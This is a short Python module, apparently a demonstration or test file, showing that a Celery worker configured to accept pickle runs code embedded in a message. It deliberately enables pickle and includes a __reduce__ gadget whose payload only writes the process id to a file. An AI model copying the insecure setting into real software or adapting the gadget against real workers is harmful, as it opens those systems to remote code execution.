"""Trap: a worker that accepts pickle runs whatever a message tells it to."""

from __future__ import annotations

import os

from celery import Celery

# region app
app = Celery("trusting")
app.conf.accept_content = ["json", "pickle"]


@app.task(name="harmless")
def harmless(argument: object) -> None:
    """Do nothing with the argument."""


# endregion app


# region exploit
class Exploit:
    """An argument that is a call, made by whoever unpickles it."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return break_in, (self.path,)


def break_in(path: str) -> None:
    """Write down which process was told to run this."""
    with open(path, "a") as file:
        print(os.getpid(), file=file)


# endregion exploit
